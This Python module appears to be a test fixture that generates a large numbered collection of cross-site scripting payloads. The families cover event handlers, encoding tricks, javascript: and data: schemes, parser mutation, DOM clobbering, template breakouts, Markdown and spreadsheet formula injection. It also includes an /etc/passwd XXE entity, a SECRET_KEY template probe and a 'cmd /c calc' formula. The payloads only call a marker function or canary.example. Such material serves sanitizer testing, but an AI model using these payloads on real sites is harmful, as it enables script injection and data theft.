"""Markup that tries to run a script, leave the page or ask another host: made from families, a number each.

A payload that runs calls `xss(number)` or opens a dialog; one that loads something asks `canary.example`.
"""

import re
from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product

CANARY = "canary.example"


@dataclass(frozen=True)
class Payload:
    """One attempt; `number` is what it calls `xss` with, and how it is known on a page."""

    number: int
    family: str
    markup: str


def _with(template: str) -> Callable[[int], str]:
    """Put the number for § and the call for ¤: signs no payload needs."""
    return lambda number: template.replace("¤", f"xss({number})").replace("§", str(number))


# Elements that run something without anybody's doing.
BY_THEMSELVES = (
    "<img src=x onerror=¤>", "<img src=x:x onerror='¤' alt=a>", "<svg onload=¤>", "<svg><g onload=¤></g></svg>",
    "<body onload=¤>", "<body onpageshow=¤>", "<body onhashchange=¤><a href=#a>a</a>",
    "<video src=x onerror=¤></video>", "<video><source onerror=¤></video>", "<audio src=x onerror=¤></audio>",
    "<audio><source onerror=¤></audio>", "<input autofocus onfocus=¤>", "<select autofocus onfocus=¤></select>",
    "<textarea autofocus onfocus=¤></textarea>", "<button autofocus onfocus=¤>a</button>",
    "<keygen autofocus onfocus=¤>", "<a autofocus tabindex=1 onfocus=¤>a</a>",
    "<p autofocus tabindex=1 onfocus=¤>a</p>", "<x autofocus tabindex=1 onfocus=¤>a</x>",
    "<details open ontoggle=¤><summary>a</summary></details>", "<dialog open onclose=¤>a</dialog>",
    "<marquee onstart=¤>a</marquee>", "<marquee loop=1 width=0 onfinish=¤>a</marquee>", "<style onload=¤></style>",
    "<link rel=stylesheet href=x onerror=¤>", "<link rel=preload as=script href=x onerror=¤>",
    "<script src=x onerror=¤></script>", "<script>¤</script>", "<script type=module>¤</script>",
    "<script>setTimeout('¤')</script>", "<object data=x onerror=¤></object>", "<embed src=/ onload=¤>",
    "<iframe onload=¤></iframe>", "<iframe srcdoc='<script>parent.¤</script>'></iframe>",
    "<svg><animate onbegin=¤ attributeName=x dur=1s></svg>", "<svg><set onbegin=¤ attributeName=x></svg>",
    "<svg><script>¤</script></svg>", "<svg><script href='data:,¤'></script></svg>",
    "<svg><image href=x onerror=¤></svg>",
    "<svg><a><animate attributeName=href values=javascript:¤ /><text x=20 y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=¤></svg>#x'></svg>",
    "<svg><foreignObject><body onload=¤></foreignObject></svg>", "<math><mtext><img src=x onerror=¤></mtext></math>",
    "<input type=image src=x onerror=¤>", "<image src=x onerror=¤>", "<table background=x><td onload=¤>a</table>",
    "<style>@keyframes k§{}</style><p style='animation-name:k§' onanimationstart=¤>a</p>",
    "<p style='transition:color 1s' ontransitionend=¤ id=t§>a</p>",
    "<p onwebkitanimationstart=¤ style=animation:a>a</p>",
    "<button popovertarget=p§ autofocus>a</button><p popover id=p§ onbeforetoggle=¤>a</p>",
    "<p oncontentvisibilityautostatechange=¤ style=content-visibility:auto>a</p>", "<p onscrollend=¤>a</p>",
    "<frameset onload=¤></frameset>", "<isindex type=image src=x onerror=¤>", "<bgsound src=x onerror=¤>",
    "<track default src=x onerror=¤>", "<video poster=x onloadstart=¤ src=x></video>",
    "<meter onfocus=¤ autofocus>a</meter>", "<form onformdata=¤ id=f§></form>", "<slot onslotchange=¤>a</slot>",
    "<portal src=x onload=¤>", "<fencedframe onload=¤>",
)  # fmt: skip
TOUCHED = (
    "p", "a", "b", "em", "h2", "li", "td", "blockquote", "figure", "figcaption", "cite", "hr", "br", "img", "div",
)  # fmt: skip
TOUCHES = (
    "onclick", "onmouseover", "onpointerenter", "oncopy", "onfocusin", "onwheel", "onbeforeinput", "ondragstart",
)  # fmt: skip
# The same attempt in other letters.
SPELLINGS = (
    "<IMG SRC=x ONERROR=¤>", "<ImG sRc=x OnErRoR=¤>", "<img/src=x/onerror=¤>", "<img/src=`x`onerror=¤>",
    "<img\tsrc=x\tonerror=¤>", "<img\nsrc=x\nonerror=¤>", "<img\x0csrc=x\x0conerror=¤>", "<img\rsrc=x\ronerror=¤>",
    "<img src=x onerror =¤>", "<img src=x onerror= ¤>", '<img src="x" onerror="¤">', "<img src='x' onerror='¤'>",
    '<img src="x"onerror="¤">', "<img src=x onerror=&#120;ss(§)>", "<img src=x onerror=&#x78;ss(§)>",
    "<img src=x onerror=&#0000120ss(§)>", "<img src=x onerror=\\u0078ss(§)>", "<img src=x onerror=top['xs'+'s'](§)>",
    "<img src=x onerror=eval(atob('eHNzKCkK'))>", "<<img src=x onerror=¤>", "<img src=x onerror=¤ ",
    "<img src=x onerror=¤//", "<img src=x onerror=¤ <p>", "<img <img src=x onerror=¤>", '<img """><script>¤</script>">',
    "<img src=x onerror=¤ onerror=a>", "<img title='>' src=x onerror=¤>", '<img alt="a> <img src=x onerror=¤>" src=y>',
    '<a title="</a><img src=x onerror=¤>">a</a>', '<p title="--><img src=x onerror=¤>">a</p>',
    "<img src=x one\x00rror=¤>", "<scr\x00ipt>¤</scr\x00ipt>", "<scr<script>ipt>¤</scr</script>ipt>",
    "<SCRIPT>¤</SCRIPT>", "<script >¤</script >", "<script/x>¤</script/x>", "<script\n>¤</script\n>", "<script>¤",
    "<script src=//canary.example/§.js></script>", "<script src=https:canary.example/§.js></script>",
    "<script src=\\\\canary.example\\§.js></script>", "%3Cscript%3E¤%3C/script%3E", "&lt;script&gt;¤&lt;/script&gt;",
    "&amp;lt;script&amp;gt;¤&amp;lt;/script&amp;gt;", "\\x3cscript\\x3e¤\\x3c/script\\x3e",
    "\\u003cscript\\u003e¤\\u003c/script\\u003e", "+ADw-script+AD4-¤+ADw-/script+AD4-",
    "\uff1cscript\uff1e¤\uff1c/script\uff1e", "\ufe64script\ufe65¤\ufe64/script\ufe65", "<\u017fcript>¤</\u017fcript>",
    "<\u0131mg src=x onerror=¤>", "<img src=x on\u212aeydown=¤ autofocus>", "\ufeff<script>¤</script>",
    "<\u200bscript>¤</script>", "\u202e<script>¤</script>", "\x1b$B<\x1b(Bscript>¤</script>",
    "<script\u0338>¤</script\u0338>", "<\u0338script>¤</script>", "<p>\u0338<img src=x onerror=¤>\u0338</p>",
    "\u226escript>¤</script>", "<a href=x onclick\u0338=¤>a</a>", "<p\u00a0onclick=¤>a</p>",
    "<img\u2028src=x\u2028onerror=¤>", "<img src=x onerror\u2029=¤>", "<?php ¤ ?>",
    "<?xml version='1.0'?><script>¤</script>", "<!--><script>¤</script>-->", "<!-- --!><script>¤</script>",
    "<!--[if gte IE 4]><script>¤</script><![endif]-->", "<![CDATA[><script>¤</script>]]>",
    "<![if !x]><script>¤</script><![endif]>", "</p x=><script>¤</script>", "</script><script>¤</script>",
    "<//script><img src=x onerror=¤>",
)  # fmt: skip
# Addresses that run, as browsers have read them.
SCHEMES = (
    "javascript:¤", "JaVaScRiPt:¤", " javascript:¤", "\tjavascript:¤", "\njavascript:¤", "\x01javascript:¤",
    "\x1fjavascript:¤", "java\tscript:¤", "java\nscript:¤", "java\rscript:¤", "javascript\t:¤", "java&Tab;script:¤",
    "java&NewLine;script:¤", "javascript&colon;¤", "&#106;avascript:¤", "&#x6A;avascript:¤", "&#0000106avascript:¤",
    "&#x1;javascript:¤", "javascript:%78ss(§)", "javascript://%0a¤", "javascript://canary.example/%0a¤",
    "javascript:/*a*/¤", "javascript:'<script>¤</script>'", "\u2028javascript:¤", "\xa0javascript:¤",
    "java\x00script:¤", "java\xadscript:¤", "javascript\uff1a¤", "view-source:javascript:¤", "feed:javascript:¤",
    "jar:javascript:¤", "livescript:¤", "mocha:¤", "vbscript:¤", "data:text/html,<script>¤</script>",
    "data:text/html;base64,Ω", "data:text/html;charset=utf-7,+ADw-script+AD4-¤",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='¤'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>¤</x:script>", "data:,¤",
    "DATA:text/html,a", "blob:https://canary.example/§", "filesystem:https://canary.example/§", "file:///etc/passwd?§",
    "//canary.example/§", "/\\canary.example/§", "/\t/canary.example/§", "\\\\canary.example\\§",
    "https:\\canary.example\\§", "///canary.example/§",
)  # fmt: skip
CARRIERS = (
    "<a href='¿'>a</a>", '<a href="¿" rel=opener target=_top>a</a>', "<img src='¿'>",
    "<p><a href='/x'><a href='¿'>a</a></a></p>",
)  # fmt: skip
# Other places of an address; each with the first of the schemes and with the canary's.
PLACES = (
    "<iframe src='¿'></iframe>", "<object data='¿'></object>", "<embed src='¿'>",
    "<form action='¿'><input type=submit></form>", "<button form=f formaction='¿'>a</button>",
    "<input type=image formaction='¿'>", "<base href='¿'>", "<area href='¿'>", "<map name=m><area href='¿'></map>",
    "<link rel=stylesheet href='¿'>", "<link rel=import href='¿'>", "<link rel=manifest href='¿'>",
    "<link rel=prefetch href='¿'>", "<link rel=dns-prefetch href='¿'>", "<link rel=preconnect href='¿'>",
    "<meta http-equiv=refresh content='0;url=¿'>", "<meta http-equiv=Refresh content='0;¿'>",
    "<svg><a xlink:href='¿'>a</a></svg>", "<svg><image xlink:href='¿'/></svg>", "<svg><use xlink:href='¿'/></svg>",
    "<svg><feImage href='¿'/></svg>", "<math href='¿'>a</math>", "<math><mi xlink:href='¿'>a</mi></math>",
    "<video poster='¿'></video>", "<video src='¿'></video>", "<audio src='¿'></audio>", "<track src='¿'>",
    "<body background='¿'>", "<table background='¿'><tr><td>a</table>", "<td background='¿'>a</td>",
    "<blockquote cite='¿'>a</blockquote>", "<q cite='¿'>a</q>", "<del cite='¿'>a</del>", "<img longdesc='¿' src=x>",
    "<img lowsrc='¿'>", "<img dynsrc='¿'>", "<img srcset='¿ 1x'>", "<img src=x srcset='x 1x, ¿ 2x'>",
    "<picture><source srcset='¿'><img src=x></picture>", "<a ping='¿' href=/>a</a>", "<html manifest='¿'>",
    "<frame src='¿'>", "<frameset><frame src='¿'></frameset>", "<applet code='¿'></applet>",
    "<applet archive='¿'></applet>", "<param name=src value='¿'>", "<command icon='¿'>", "<bgsound src='¿'>",
    "<layer src='¿'></layer>", "<xml src='¿'></xml>", "<input type=image src='¿'>", "<source src='¿'>",
    "<p style=\"background:url('¿')\">a</p>", "<p style='background-image:url(¿)'>a</p>",
    "<li style='list-style:url(¿)'>a</li>", "<style>@import '¿';</style>", "<style>p{background:url('¿')}</style>",
    "<p style='behavior:url(¿)'>a</p>", "<p style='-moz-binding:url(¿)'>a</p>",
    "<p style=\"cursor:url('¿'),auto\">a</p>",
)  # fmt: skip
# Markup whose second reading differs from the first.
OUTER = (
    "svg", "math", "svg><desc", "svg><title", "svg><foreignObject", "math><mtext", "math><mi",
    "math><annotation-xml encoding=text/html", "table", "form", "select", "p",
)  # fmt: skip
INNER = (
    "style", "noscript", "template", "textarea", "xmp", "noembed", "noframes", "iframe", "title", "plaintext", "mglyph",
    "malignmark", "option",
)  # fmt: skip
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=¤&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=¤>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=¤>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=¤>\"></style></p></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=¤>\"></noscript>",
    "<math><mtext><option><x></option><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=¤ src=1>\">",
    "<p id=\"</xmp><img src=x onerror=¤>\"><xmp>", "<listing>&lt;img src=x onerror=¤&gt;</listing>",
    "<pre>\n\n&lt;img src=x onerror=¤&gt;</pre>", "<a href='`<img src=x onerror=¤>`'>a</a>",
    "<img alt='``onmouseover=¤'>", "<svg><![CDATA[<style><img src=x onerror=¤>]]></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=¤></style>",
    "<table><caption><svg><style><img src=x onerror=¤></table>", "<table><script>¤</script></table>",
    "<table><a href=javascript:¤><tr><td>a", "<select><template><img src=x onerror=¤></template></select>",
    "<template><template></template><img src=x onerror=¤></template>",
    "<p><select><style></select><img src=x onerror=¤></style>",
    "<ruby><rt><svg><style><!--</style><img src=x onerror=¤>-->",
    "<b><p><b><p><b><img src=x onerror=¤></p></b></p></b>", "<a><table><a><img src=x onerror=¤></a></table></a>",
    "<svg><desc><table><thead><s></table></s><style><img src=x onerror=¤>",
    "<div><table><tr><img src=x onerror=¤></tr></table></div>",
    "<noembed><img title=\"</noembed><img src onerror=¤>\">", "<style><style /><img src=x onerror=¤>",
    "<title><a title='</title><img src=x onerror=¤>'>", "<comment><img src=\"</comment><img src=x onerror=¤>\">",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror=¤&gt;</style></svg>",
    "<svg><textarea><b title=\"</textarea><img src=x onerror=¤>\">", "<br><style></br></style><img src=x onerror=¤>",
    "</p><svg></br><style><img src=x onerror=¤>", "<math><p></p><style><!--</style><img src=x onerror=¤>--></style>",
    "<p is=x-a><img src=x onerror=¤></p>",
    "<p slot=a><template shadowrootmode=open><img src=x onerror=¤></template></p>", "<img src=x onerror=¤ <!--",
    "<xss-a onconnected=¤></xss-a>",
)  # fmt: skip
# Names that hide what a page's own scripts look for.
NAMES = (
    "body", "forms", "cookie", "head", "getElementById", "querySelector", "createElement", "currentScript",
    "attributes", "csrfmiddlewaretoken", "messages", "content", "preflight", "action", "location",
)  # fmt: skip
NAMED = (
    "<img name={}>", "<form id={}><input name=action></form>", "<a id={} href=//canary.example>a</a>",
    "<p id={} class='button messages' data-bring-file data-view hidden>a</p>",
)  # fmt: skip
# Ways out of an attribute, a script, a text area, a feed, a template.
BREAKOUTS = (
    "</script><script>¤</script>", "</ScRiPt ><script>¤</script>", "<!--<script>¤//",
    "<!--<script></script><script>¤</script>", "\u2028¤\u2028//", "\u2029¤//", '";¤//', "';¤//", "\\';¤//", '\\";¤//',
    "'-¤-'", '"-¤-"', "${¤}", "`-¤-`", "</title><script>¤</script>", "</textarea><script>¤</script>",
    "</style><script>¤</script>", "</noscript><script>¤</script>", "</template><script>¤</script>",
    "</select><script>¤</script>", "</option></select><img src=x onerror=¤>", "</iframe><img src=x onerror=¤>",
    "</xmp><img src=x onerror=¤>", "--><script>¤</script>", "--!><script>¤</script>", "]]><script>¤</script>",
    "]]>]]&gt;<x:script xmlns:x='http://www.w3.org/1999/xhtml'>¤</x:script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>¤</x:script>", "<![CDATA[<script>¤</script>",
    "<?xml-stylesheet href='data:,§'?>", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;§</a>", "&x§;",
    '"><script>¤</script>', "'><script>¤</script>", "><script>¤</script>", '" autofocus onfocus=¤ x="',
    "' autofocus onfocus=¤ x='", '" onmouseover="¤', "' style='x' onmouseover='¤", "x onerror=¤", "`onmouseover=¤",
    '"><svg onload=¤>', "'><img src=x onerror=¤>", '" src=x onerror="¤', "{{constructor.constructor('¤')()}}",
    "{{ settings.SECRET_KEY }}§", "{% include 'x' %}§", "{% debug %}§", "#{¤}", "<%= ¤ %>", "[[¤]]",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('¤')}}", "@import'//canary.example/§';",
    "*/}</style><script>¤</script>", "\r\nContent-Type: text/html\r\n\r\n<script>¤</script>", "%0d%0aSet-Cookie:%20a=§",
    "\\\"><img src=x onerror=¤>", "\x00<script>¤</script>", "\x08\x0b<script>¤</script>",
    "<mark>a</mark><script>¤</script>", "</mark><img src=x onerror=¤>", "<b>§</b>&lt;img src=x onerror=¤&gt;",
)  # fmt: skip
MARKDOWN = (
    "[a](javascript:¤)", "[a](  javascript:¤)", "[a](<javascript:¤>)", "[a](java\nscript:¤)",
    "[a](data:text/html,<script>¤</script>)", "[a](//canary.example/§)", "![a](javascript:¤)", '![a](x"onerror="¤)',
    '![a"onerror="¤](x)', "<javascript:¤>", "[a][r§]\n\n[r§]: javascript:¤", "[a](x 'y\" onmouseover=\"¤')",
    "```\n</code></pre><script>¤</script>\n```", "`<script>¤</script>`", "# <img src=x onerror=¤>",
    "> <script>¤</script>", "- <svg onload=¤>", "| <script>¤</script> |\n| --- |\n| a |", "[<img src=x onerror=¤>](x)",
    "https://a.example/\"onmouseover=\"¤", "https://a.example/'><script>¤</script>",
    "<https://a.example/><script>¤</script>", "mailto:a@b?subject=<script>¤</script>",
)  # fmt: skip
TABLES = (
    "=cmd|'/c calc'!A§", "+cmd|'/c calc'!A§", "-2+3+cmd|'/c calc'!A§", "@SUM(1+§)", "\t=1+§", "\r=1+§",
    '=HYPERLINK("https://canary.example/?§")', "＝1+§",
)  # fmt: skip


def _templates() -> Iterator[tuple[str, str]]:
    yield from (("by itself", one) for one in BY_THEMSELVES)
    yield from (("touched", f"<{tag} {event}=¤>a</{tag}>") for tag, event in product(TOUCHED, TOUCHES))
    yield from (("spelling", one) for one in SPELLINGS)
    yield from (("address", holder.replace("¿", one)) for holder, one in product(CARRIERS, SCHEMES))
    yield from (
        ("place", one.replace("¿", way)) for one, way in product(PLACES, ("javascript:¤", "https://canary.example/§"))
    )
    for outer, inner in product(OUTER, INNER):
        yield "nesting", f'<{outer}><{inner}><b title="</{inner}><img src=x onerror=¤>">a'
    yield from (("mutation", one) for one in MUTATING)
    yield from (("name", one.format(name)) for one, name in product(NAMED, NAMES))
    yield from (("breakout", one) for one in BREAKOUTS)
    yield from (("markdown", one) for one in MARKDOWN)
    yield from (("table", one) for one in TABLES)


def _coded(markup: str, number: int) -> str:
    code = b64encode(f"<script>xss({number})</script>".encode()).decode()
    return _with(markup.replace("Ω", code))(number)


PAYLOADS = [Payload(n, family, _coded(one, n)) for n, (family, one) in enumerate(_templates(), start=1)]
ESCAPES = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")  # what no form of ours and no XML can carry


def typeable(payload: Payload) -> str:
    """The payload as a text field or a Word file can carry it: without control characters."""
    return ESCAPES.sub("", payload.markup)


FAMILIES = sorted({one.family for one in PAYLOADS})
